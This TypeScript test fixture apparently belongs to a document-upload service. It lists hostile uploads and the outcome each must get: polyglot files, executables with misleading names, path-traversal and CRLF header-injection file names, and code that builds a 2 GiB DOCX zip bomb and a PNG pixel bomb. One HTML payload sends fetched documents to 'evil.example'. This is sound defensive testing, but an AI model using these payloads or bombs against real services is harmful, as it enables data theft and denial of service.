import { constants, crc32, deflateRawSync, deflateSync } from "node:zlib";
import { MAX_FILE_BYTES } from "@/lib/domain/intake/uploads";
import { makeZip, SAMPLE } from "./sample-files";

/**
 * Uploads an attacker would try: polyglots, lying names and types, sizes at the limits, hostile
 * file names and decompression bombs. Each has the outcome the upload layer must give it.
 */
export interface HostileFile {
  label: string;
  name: string;
  /** What the browser claims; the server must decide from the bytes alone. */
  type?: string;
  bytes: () => Buffer;
  /** Refused at upload, or stored as this MIME type (from the bytes). */
  expect: { rejected: RegExp } | { storedAs: string };
}

const MB = 1024 * 1024;
const latin1 = (text: string) => Buffer.from(text, "latin1");

/** A raw deflate stream of 1 MiB of zeros that ends on a byte boundary, so copies can be chained. */
const zeroChunk = deflateRawSync(Buffer.alloc(MB), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
/** The final, empty, fixed-Huffman deflate block. */
const FINAL_BLOCK = Buffer.from([0x03, 0x00]);

export const BOMB_INFLATED_MIB = 2048;

let bombCrc: number | undefined;
function zerosCrc(mebibytes: number): number {
  if (bombCrc === undefined) {
    const zeros = Buffer.alloc(MB);
    let crc = 0;
    for (let i = 0; i < mebibytes; i += 1) crc = crc32(zeros, crc);
    bombCrc = crc;
  }
  return bombCrc;
}

/** The deflate stream inside the DOCX bomb: about 2 MB that inflates to 2 GiB of zeros. */
export function bombStream(chunks = BOMB_INFLATED_MIB): Buffer {
  return Buffer.concat([...Array.from({ length: chunks }, () => zeroChunk), FINAL_BLOCK]);
}

/** A Word document whose word/document.xml inflates to 2 GiB (a "zip bomb" shaped as a .docx). */
export function docxBomb(): Buffer {
  return makeZip({
    "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    "_rels/.rels": "<Relationships/>",
    "word/document.xml": { deflated: bombStream(), crc: zerosCrc(BOMB_INFLATED_MIB), size: BOMB_INFLATED_MIB * MB },
  });
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([latin1(type), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A PNG whose header claims 100000 × 100000 RGBA pixels (40 GB decoded), with a few KB of data. */
export function pngPixelBomb(): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(100_000, 0);
  header.writeUInt32BE(100_000, 4);
  header.set([8, 6, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc(4 * MB));
  return Buffer.concat([SAMPLE.png().subarray(0, 8), pngChunk("IHDR", header), pngChunk("IDAT", rows), pngChunk("IEND", Buffer.alloc(0))]);
}

const HTML = "<html><body><script>fetch('/api/documents').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example',t))</script></body></html>";

/** A PDF of exactly the largest size accepted. */
export const pdfAtLimit = () => Buffer.concat([SAMPLE.pdf(), Buffer.alloc(MAX_FILE_BYTES - SAMPLE.pdf().length)]);

export const HOSTILE_FILES: readonly HostileFile[] = [
  { label: "PDF header with HTML and script (polyglot)", name: "statement.pdf", type: "application/pdf", bytes: () => latin1(`%PDF-1.7\n${HTML}\n%%EOF\n`), expect: { storedAs: "application/pdf" } },
  { label: "PDF with an embedded JavaScript action", name: "form.pdf", bytes: () => latin1("%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n%%EOF\n"), expect: { storedAs: "application/pdf" } },
  { label: "HTML page named .pdf and sent as text/html", name: "invoice.pdf", type: "text/html", bytes: () => latin1(HTML), expect: { storedAs: "text/plain; charset=utf-8" } },
  { label: "SVG with script named .png", name: "photo.png", type: "image/svg+xml", bytes: () => latin1('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'), expect: { storedAs: "text/plain; charset=utf-8" } },
  { label: "GIF header with JavaScript after it (GIFAR-style polyglot)", name: "pic.gif", bytes: () => latin1("GIF89a/*\x01\x00\x01\x00\x80\x00\x00*/=1;alert(document.domain);//;"), expect: { storedAs: "image/gif" } },
  { label: "PDF with a ZIP (DOCX) appended", name: "both.docx", bytes: () => Buffer.concat([SAMPLE.pdf(), SAMPLE.docx()]), expect: { storedAs: "application/pdf" } },
  { label: "Windows executable named .pdf and sent as application/pdf", name: "report.pdf", type: "application/pdf", bytes: () => Buffer.concat([latin1("MZ\x90\x00\x03\x00\x00\x00"), Buffer.alloc(56), latin1("PE\0\0")]), expect: { rejected: /is not a file type we accept/ } },
  { label: "ELF binary named .txt", name: "notes.txt", type: "text/plain", bytes: () => Buffer.concat([latin1("\x7fELF\x02\x01\x01"), Buffer.alloc(32)]), expect: { rejected: /is not a file type we accept/ } },
  { label: "real PNG named .exe and sent as an executable", name: "photo.exe", type: "application/x-msdownload", bytes: SAMPLE.png, expect: { storedAs: "image/png" } },
  { label: "plain ZIP named .docx", name: "archive.docx", bytes: () => makeZip({ "payload.exe": "MZ" }), expect: { rejected: /is not a file type we accept/ } },
  { label: "truncated DOCX (central directory cut off)", name: "cut.docx", bytes: () => SAMPLE.docx().subarray(0, 60), expect: { rejected: /is not a file type we accept/ } },
  { label: "zero bytes", name: "empty.pdf", bytes: () => Buffer.alloc(0), expect: { rejected: /is empty/ } },
  { label: "one byte over the size limit", name: "big.pdf", bytes: () => Buffer.concat([SAMPLE.pdf(), Buffer.alloc(MAX_FILE_BYTES + 1 - SAMPLE.pdf().length)]), expect: { rejected: /is larger than 10 MB/ } },
  { label: "path traversal name (POSIX)", name: "../../../etc/passwd.pdf", bytes: SAMPLE.pdf, expect: { storedAs: "application/pdf" } },
  { label: "path traversal name (Windows, UNC)", name: "\\\\server\\share\\..\\..\\boot.ini.pdf", bytes: SAMPLE.pdf, expect: { storedAs: "application/pdf" } },
  { label: "right-to-left override disguising an .exe", name: "invoice\u202efdp.exe", bytes: SAMPLE.pdf, expect: { storedAs: "application/pdf" } },
  { label: "CR/LF header injection in the name", name: 'x.pdf"\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>', bytes: SAMPLE.pdf, expect: { storedAs: "application/pdf" } },
  { label: "NUL and control characters in the name", name: "a\u0000b\u0007c\u001b[31m.pdf", bytes: SAMPLE.pdf, expect: { storedAs: "application/pdf" } },
  { label: "a 2,000-character name of dots and reserved characters", name: `${"../".repeat(300)}${'<>:"|?*'.repeat(150)}.pdf`, bytes: SAMPLE.pdf, expect: { storedAs: "application/pdf" } },
  { label: "PNG claiming 100000 x 100000 pixels (decompression bomb)", name: "scan.png", bytes: pngPixelBomb, expect: { storedAs: "image/png" } },
  { label: "DOCX whose document inflates to 2 GiB (zip bomb)", name: "letter.docx", bytes: docxBomb, expect: { storedAs: "application/vnd.openxmlformats-officedocument.wordprocessingml.document" } },
];
